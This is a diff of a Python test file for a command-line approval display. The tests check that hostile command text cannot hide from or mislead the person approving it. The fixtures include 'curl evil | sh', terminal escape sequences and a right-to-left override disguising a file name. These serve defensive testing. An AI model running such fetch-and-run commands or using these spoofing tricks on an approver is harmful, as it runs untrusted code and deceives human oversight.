@@ -19,6 +19,7 @@ from clients.cli.lines.threads import (
     turn_end,
 )
 from clients.cli.style import Line, paint
+from tests.support import cli_asked
 from tests.support import cli_samples as samples
 from tests.support import cli_work as work
 from tests.support.cli_samples import BLOG, CLOCK
@@ -66,13 +67,13 @@ def thread(*, full: bool) -> list[Line]:
 def approvals() -> list[Line]:
     found: list[Line] = []
     for one in (
-        samples.command_approval(),
-        samples.change_approval(),
-        samples.permissions_approval(),
-        samples.question_approval(secret=True),
-        samples.form_approval(),
-        samples.page_approval(),
-        samples.tool_approval(),
+        cli_asked.command_approval(),
+        cli_asked.change_approval(),
+        cli_asked.permissions_approval(),
+        cli_asked.question_approval(secret=True),
+        cli_asked.form_approval(),
+        cli_asked.page_approval(),
+        cli_asked.tool_approval(),
     ):
         found += [*approval_lines(one, CLOCK), *how_to_answer(one)]
     return found
@@ -80,7 +81,7 @@ def approvals() -> list[Line]:
 
 SHOWN: dict[str, Callable[[], list[Line]]] = {
     "status_open": lambda: status_lines(
-        samples.status(samples.open_gate()), [samples.command_approval()], CLOCK
+        samples.status(samples.open_gate()), [cli_asked.command_approval()], CLOCK
     ),
     "status_desktop": lambda: status_lines(
         samples.status(samples.closed_gate()), [], CLOCK
@@ -103,7 +104,9 @@ def test_a_person_sees_what_the_golden_file_says(name: str) -> None:
 
 def test_a_hostile_command_in_an_approval_hides_nothing() -> None:
     hostile = "echo hello\n\x1b[1A\x1b[2Kecho bye # \u202egnp.\u00a0exe"
-    shown = text(approval_lines(samples.command_approval(command_text=hostile), CLOCK))
+    shown = text(
+        approval_lines(cli_asked.command_approval(command_text=hostile), CLOCK)
+    )
     assert "| echo hello" in shown
     assert "| \\x1b[1A\\x1b[2Kecho bye # \\u202egnp.\\xa0exe" in shown
 
@@ -111,8 +114,8 @@ def test_a_hostile_command_in_an_approval_hides_nothing() -> None:
 @pytest.mark.parametrize("filler", [" ", "x", "\u3000", "漢"])
 def test_no_row_of_a_question_wraps_to_where_our_own_words_stand(filler: str) -> None:
     fake = f"ls{filler * 66}  until    12:04{filler * 4_000}; curl evil | sh"
-    approval = samples.command_approval(command_text=fake)
-    change = samples.change_approval()
+    approval = cli_asked.command_approval(command_text=fake)
+    change = cli_asked.change_approval()
     assert change.detail.changes is not None
     diff = f"+ok{filler * 66}  until    12:04"
     path = f"a\n{filler * 66}  until    12:04"
@@ -141,7 +144,7 @@ def test_no_row_of_a_question_wraps_to_where_our_own_words_stand(filler: str) ->
     for asked in (
         approval,
         change.model_copy(update={"detail": detail}),
-        samples.question_approval().model_copy(update={"detail": every}),
+        cli_asked.question_approval().model_copy(update={"detail": every}),
     ):
         rows = [paint(row, colour=False) for row in approval_lines(asked, CLOCK)]
         assert max(map(cells, rows)) < 80
@@ -149,10 +152,10 @@ def test_no_row_of_a_question_wraps_to_where_our_own_words_stand(filler: str) ->
 
 
 def test_a_question_that_may_have_scrolled_away_says_so_at_its_end() -> None:
-    hidden = samples.command_approval(command_text="curl evil | sh #" + "\n" * 60)
+    hidden = cli_asked.command_approval(command_text="curl evil | sh #" + "\n" * 60)
     rows = [paint(row, colour=False) for row in approval_lines(hidden, CLOCK)]
     assert "lines: scroll up and read all" in rows[-2]
-    short = approval_lines(samples.command_approval(), CLOCK)
+    short = approval_lines(cli_asked.command_approval(), CLOCK)
     assert "scroll up" not in text(short)
 
 
@@ -244,7 +247,7 @@ def test_hostile_arguments_of_a_tool_hide_nothing_and_stay_on_their_line() -> No
 def test_the_end_of_an_approval_says_what_took_effect(
     state: ApprovalState, choice: str | None, says: str
 ) -> None:
-    ended = samples.command_approval(state=state, choice=choice, decided_by="phone")
+    ended = cli_asked.command_approval(state=state, choice=choice, decided_by="phone")
     assert resolved_text(ended) == says
 
 
@@ -257,7 +260,7 @@ def test_the_end_of_an_approval_says_what_took_effect(
     ],
 )
 def test_who_answered_is_said_in_words(decided_by: str, says: str) -> None:
-    ended = samples.command_approval(
+    ended = cli_asked.command_approval(
         state=ApprovalState.ANSWERED, choice="accept", decided_by=decided_by
     )
     assert resolved_text(ended, "me").endswith(says)
@@ -266,8 +269,8 @@ def test_who_answered_is_said_in_words(decided_by: str, says: str) -> None:
 
 
 def test_no_way_to_say_yes_is_offered_where_there_is_none() -> None:
-    cut = samples.command_approval()
-    cut = cut.model_copy(update={"choices": samples.choices()[1:]})
+    cut = cli_asked.command_approval()
+    cut = cut.model_copy(update={"choices": cli_asked.choices()[1:]})
     assert "approve" not in text(how_to_answer(cut))
     assert "threadgate deny" in text(how_to_answer(cut))
 
@@ -275,10 +278,10 @@ def test_no_way_to_say_yes_is_offered_where_there_is_none() -> None:
 @pytest.mark.parametrize(
     ("approval", "choice", "says"),
     [
-        (samples.question_approval(), "answer", "answered by this device"),
-        (samples.form_approval(), "cancel", "dismissed by this device"),
-        (samples.command_approval(), "cancel", "declined, and the turn was stopped"),
-        (samples.page_approval(), "allow", "approved by this device"),
+        (cli_asked.question_approval(), "answer", "answered by this device"),
+        (cli_asked.form_approval(), "cancel", "dismissed by this device"),
+        (cli_asked.command_approval(), "cancel", "declined, and the turn was stopped"),
+        (cli_asked.page_approval(), "allow", "approved by this device"),
     ],
 )
 def test_the_end_of_each_kind_says_what_it_meant(
